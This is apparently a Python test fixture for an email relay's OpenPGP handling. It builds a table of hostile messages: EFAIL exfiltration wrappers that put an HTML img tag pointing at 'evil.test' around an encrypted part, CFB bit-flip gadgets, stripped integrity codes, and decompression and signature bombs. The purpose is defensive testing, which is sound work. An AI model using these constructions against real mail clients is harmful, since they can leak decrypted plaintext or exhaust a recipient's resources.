"""Encrypted messages that want to have something opened, or to cost something: what the relay answers to each is nothing.

EFAIL (Poddebniak et al., USENIX Security 2018), messages of which only a part is encrypted (Müller et al., CCS 2020),
changed, cut, downgraded and never encrypted ones, packets in packets, and bombs. ``SECRET`` stands in every plaintext, and
in no message as it is sent but for those that were never encrypted.
"""

from __future__ import annotations

import functools
import re
import subprocess
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from cryptography.hazmat.decrepit.ciphers.modes import CFB
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms

from relay.edge.openpgp import armor
from tests.openpgp.people import (
    ana,
    clear_signed,
    detached,
    entity,
    key,
    multipart,
    sealed,
    signed,
    text_body,
)
from tests.unit.edge.openpgp_world import desk, packet, pieces

SECRET = "narwhalsong"
WORDS = f"Nobody may hear this: {SECRET}.\n"
SESSION_KEY, SIGNATURE, ONE_PASS, COMPRESSED, OLD, LITERAL, PROTECTED, AEAD = 1, 2, 4, 8, 9, 11, 18, 20
CLEAR = "Words in clear.\n"


@dataclass(frozen=True)
class Hostile:
    """``build(the line's fingerprint)``: header and body below the usual fields.

    ``passes``: it is a letter like any other, and its words in clear arrive: only its file is encrypted, or it only costs.
    """

    name: str
    what: str
    build: Callable[[str], bytes]
    passes: bool = False


def literal(content: bytes) -> bytes:
    return packet(LITERAL, b"b\x00\x00\x00\x00\x00" + content)


def squeezed(octets: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packet(COMPRESSED, b"\x01" + packer.compress(octets) + packer.flush())


def whole(own: str, *more: str) -> bytes:
    """A good message in binary: session key, encrypted packet."""
    return desk().seal(entity(WORDS), own, how=more)


def inside(own: str, octets: bytes) -> bytes:
    """These packets, encrypted as they are."""
    return desk().gpg("--no-literal", "-z", "0", "--recipient", own, "--encrypt", given=octets)


def text(own: str) -> str:
    """A good message as one armored text."""
    return armor.armored(desk().seal(WORDS.encode(), own), armor.MESSAGE).decode()


def clear(kind: str = "text/plain") -> bytes:
    return entity(CLEAR, kind)


def flipped(own: str, at: float, mask: int = 1) -> bytes:
    octets = bytearray(whole(own))
    octets[int(at * len(octets)) if at % 1 else int(at)] ^= mask
    return bytes(octets)


def session_and_key(own: str) -> tuple[bytes, bytes]:
    """The packet that gives the line a session key, and that key: a second reader tells it."""
    friend = key("Friend <friend@elsewhere.test>")
    message = desk().seal(entity(WORDS), own, how=("--recipient", friend))
    command = ["gpg", "--homedir", str(desk().home), "--batch", "--status-fd", "1", "--show-session-key", "--decrypt", "--output", "/dev/null"]  # fmt: skip
    said = subprocess.run(command, input=message, capture_output=True, check=True).stdout
    found = re.search(rb"SESSION_KEY 9:([0-9A-F]{64})", said)
    assert found is not None
    return pieces(message)[0][1], bytes.fromhex(found[1].decode())


def without_integrity(own: str) -> bytes:
    """A whole, good message as it was before integrity codes: opened by whoever does not ask for one (RFC 9580 §5.7)."""
    session, secret = session_and_key(own)
    plain = literal(entity(WORDS))
    prefix = bytes(range(16))
    first = _cfb(secret, bytes(16), prefix + prefix[-2:])
    return session + packet(OLD, first + _cfb(secret, first[2:18], plain))


def _cfb(secret: bytes, iv: bytes, plain: bytes) -> bytes:
    encryptor = Cipher(algorithms.AES(secret), CFB(iv)).encryptor()
    return encryptor.update(plain) + encryptor.finalize()


def gadget(own: str) -> bytes:
    """EFAIL's gadget: the first block of plaintext is known, and is changed into another one."""
    (_, session, _), (_, _, body) = pieces(whole(own))
    octets = bytearray(body)
    known, wanted = b"\xcb", b"\xc8"  # a literal into something compressed
    octets[1 + 18] ^= known[0] ^ wanted[0]
    return session + packet(PROTECTED, bytes(octets))


def parts_of(own: str) -> tuple[bytes, bytes]:
    (_, session, _), (_, _, body) = pieces(whole(own))
    return session, body


def changed(own: str, into: Callable[[bytes], bytes]) -> bytes:
    """A good message with something else made of its encrypted packet."""
    session, body = parts_of(own)
    return session + into(body)


def exfiltrating(own: str, subtype: str = "mixed") -> bytes:
    return multipart(
        subtype, entity('<img src="https://evil.test/', "text/html"), sealed(whole(own)), entity('">', "text/html")
    )  # fmt: skip


def many_readers(own: str, count: int) -> bytes:
    """Those who are not the line are hidden, and come first; what is inside is a letter like any other."""
    (_, session, _), (_, _, body) = pieces(desk().seal(clear(), own))
    (_, _, strange), *_ = pieces(desk().seal(b"x", ana()))
    hidden = packet(SESSION_KEY, strange[:1] + bytes(8) + strange[9:])
    return hidden * count + session + packet(PROTECTED, body)


@functools.cache
def _signature() -> bytes:
    return desk().sign(entity(WORDS), ana())


def bomb(own: str, octets: int) -> bytes:
    return inside(own, squeezed(literal(entity(SECRET) + bytes(octets))))


def deep(own: str, layers: int) -> bytes:
    octets = literal(entity(WORDS))
    for _ in range(layers):
        octets = squeezed(octets)
    return inside(own, octets)


def _file(octets: bytes, kind: str = "application/octet-stream", name: str = "words.txt.pgp") -> bytes:
    return multipart(
        "mixed", clear(), entity(armor.armored(octets, armor.MESSAGE), kind, f'Content-Disposition: attachment; filename="{name}"')
    )  # fmt: skip


def _h(name: str, what: str, data: Callable[[str], bytes]) -> Hostile:
    """In the place of the encrypted part of PGP/MIME."""
    return Hostile(name, what, lambda own: sealed(data(own)))


def _signed_around(own: str) -> bytes:
    content = sealed(whole(own))
    return signed(content, detached(content, ana()))


EFAIL = (
    Hostile("efail-direct", "a page around the encrypted part, with an open address", exfiltrating),
    Hostile("efail-direct-related", "the same as parts that belong together", lambda own: exfiltrating(own, "related")),
    Hostile("efail-direct-alternative", "the same as versions of one text", lambda own: exfiltrating(own, "alternative")),
    Hostile("efail-in-forwarded", "the encrypted part in a forwarded letter",
            lambda own: multipart("mixed", clear("text/html"), entity(b"Subject: x\r\n" + sealed(whole(own)), "message/rfc822")), passes=True),
    _h("efail-gadget", "a known block of plaintext turned into another", gadget),
    _h("efail-gadget-downgraded", "the same in a packet without integrity code", lambda own: changed(own, lambda body: packet(OLD, body[1:]))),
    _h("without-integrity", "a good message of the old kind, which has no integrity code", without_integrity),
    _h("code-cut-off", "the integrity code cut off", lambda own: changed(own, lambda body: packet(PROTECTED, body[:-22]))),
    _h("code-cut-off-downgraded", "cut off, and the packet of the old kind",
       lambda own: changed(own, lambda body: packet(OLD, body[1:-22]))),
    _h("aead-tag", "the encrypted octets under the tag of another mode", lambda own: changed(own, lambda body: packet(AEAD, body))),
    _h("version-2", "the encrypted octets as those of version 2", lambda own: changed(own, lambda body: packet(PROTECTED, b"\x02" + body[1:]))),
)  # fmt: skip

CHANGED = (
    *(_h(f"flipped-{at}", "one bit changed", lambda own, at=at: flipped(own, at)) for at in (60, 110, 0.5, 0.7, 0.9, -3)),  # type: ignore[misc]
    *(_h(f"cut-{at}", "cut off", lambda own, at=at: whole(own)[:at]) for at in (10, 96, 120, -40, -22, -1)),  # type: ignore[misc]
    _h("longer", "octets behind it", lambda own: whole(own) + b"\x00"),
    _h("other-session-key", "another message's session key", lambda own: parts_of(own)[0] + packet(PROTECTED, parts_of(own)[1])),
    _h("spliced", "the beginning of one message, the end of another",
       lambda own: parts_of(own)[0] + packet(PROTECTED, parts_of(own)[1][:60] + parts_of(own)[1][60:])),
    _h("without-session-key", "the encrypted packet alone", lambda own: packet(PROTECTED, parts_of(own)[1])),
    _h("password", "encrypted with a password", lambda _: desk().gpg("--symmetric", "--s2k-count", "1024", "--passphrase", "x", given=entity(WORDS))),
    _h("to-somebody-else", "encrypted to a key that is not the line's", lambda _: desk().seal(entity(WORDS), ana())),
)  # fmt: skip

NEVER = (
    _h("literal", "a literal packet", lambda _: literal(entity(WORDS))),
    _h("literal-armored", "the same in armor", lambda _: armor.armored(literal(entity(WORDS)), armor.MESSAGE)),
    _h("compressed", "a compressed packet", lambda _: squeezed(literal(entity(WORDS)))),
    _h("signed", "a signed message", lambda _: desk().gpg("--local-user", ana(), "-z", "0", "--sign", given=entity(WORDS))),
    _h("clear-signed", "a clear-signed text", lambda _: clear_signed(WORDS, ana()).encode()),
    _h("session-then-literal", "a session key, and then a literal", lambda own: parts_of(own)[0] + literal(entity(WORDS))),
    _h("literal-then-message", "a literal, and then a message", lambda own: literal(entity(WORDS)) + whole(own)),
    _h("message-then-literal", "a message, and then a literal", lambda own: whole(own) + literal(entity(WORDS))),
    _h("two-messages", "two good messages", lambda own: whole(own) + whole(own)),
    _h("plain-text", "no packet at all", lambda _: WORDS.encode()),
    _h("inside-two-literals", "two texts inside", lambda own: inside(own, literal(entity(WORDS)) + literal(entity(WORDS)))),
    _h("inside-nothing", "no text inside", lambda own: inside(own, packet(10, b"PGP"))),
    _h("inside-a-message", "a captured message encrypted once more", lambda own: inside(own, whole(own))),
    _h("inside-a-message-compressed", "the same, compressed", lambda own: inside(own, squeezed(whole(own)))),
    _h("inside-pgp-mime", "an encrypted part within the encrypted part", lambda own: desk().seal(sealed(whole(own)), own)),
    _h("inside-inline", "an armored message as the encrypted text", lambda own: desk().seal(text_body(text(own)), own)),
    _h("inside-mixed", "an encrypted part beside words within the encrypted part",
       lambda own: desk().seal(multipart("mixed", clear(), sealed(whole(own))), own)),
)  # fmt: skip

PARTLY = (
    Hostile("words-before", "words before the encrypted part", lambda own: multipart("mixed", clear(), sealed(whole(own)))),
    Hostile("words-behind", "words behind it", lambda own: multipart("mixed", sealed(whole(own)), clear())),
    Hostile("two-parts", "two encrypted parts", lambda own: multipart("mixed", sealed(whole(own)), sealed(whole(own), "=_two"))),
    Hostile("signed-around", "an encrypted part in a signed one", _signed_around),
    Hostile("inline-before", "words before an armored text", lambda own: text_body(CLEAR + "\n" + text(own))),
    Hostile("inline-behind", "words behind it", lambda own: text_body(text(own) + "\n" + CLEAR)),
    Hostile("inline-two", "two armored texts", lambda own: text_body(text(own) + text(own))),
    Hostile("inline-quoted", "a captured text as a quote, with a question", lambda own: text_body(
            "What did I write?\n\n" + "".join(f"> {line}\n" for line in text(own).splitlines()))),
    Hostile("inline-in-page", "an armored text in a page", lambda own: text_body(f"<pre>{text(own)}</pre>", "text/html")),
    Hostile("inline-versions", "an armored text as one of two versions", lambda own: multipart("alternative", text_body(text(own)), clear("text/html"))),
    Hostile("inline-with-file", "an armored text beside a file", lambda own: multipart("mixed", text_body(text(own)), clear())),
    Hostile("as-file", "an encrypted file", lambda own: _file(whole(own)), passes=True),
    Hostile("as-named-file", "an encrypted file that names itself", lambda own: _file(whole(own), "application/pgp-encrypted", "msg.asc"), passes=True),
    Hostile("as-text-file", "an armored text as a file", lambda own: _file(whole(own), "text/plain", "a.asc"), passes=True),
)  # fmt: skip


BOMBS = (
    _h("many-readers", "forty readers", lambda own: many_readers(own, 40)),
    Hostile("many-hidden-readers", "twenty hidden readers before the line", lambda own: sealed(many_readers(own, 20)), passes=True),
    _h("compressed-bomb", "two hundred megabytes in a little", lambda own: bomb(own, 200_000_000)),
    _h("layers-of-compression", "a hundred layers of compression", lambda own: deep(own, 100)),
    Hostile("many-signatures", "four thousand signatures within",
            lambda own: sealed(inside(own, _signature() * 4_000 + literal(clear()))), passes=True),
    _h("many-small-pieces", "a packet in a hundred thousand pieces",
       lambda own: parts_of(own)[0] + b"\xd2" + b"\xe0x" * 100_000 + b"\x00"),
    _h("many-packets", "a hundred thousand packets", lambda own: packet(10, b"PGP") * 100_000 + whole(own)),
    _h("huge-length", "a packet that says it is of four gigabytes", lambda own: parts_of(own)[0] + b"\xd2\xff\xff\xff\xff\xff" + parts_of(own)[1]),
    Hostile("many-signatures-outside", "five thousand signatures over words in clear", lambda _: signed(
            entity(CLEAR), armor.armored(_signature() * 5_000, armor.SIGNATURE)), passes=True),
    Hostile("key-bomb", "a key of megabytes comes along", lambda _: multipart("mixed", clear(), entity(armor.armored(
            pieces(desk().certificate(ana()))[0][1] + packet(13, b"x" * 200) * 10_000, armor.CERTIFICATE), "application/pgp-keys")), passes=True),
)  # fmt: skip

TABLE = (*EFAIL, *CHANGED, *NEVER, *PARTLY, *BOMBS)
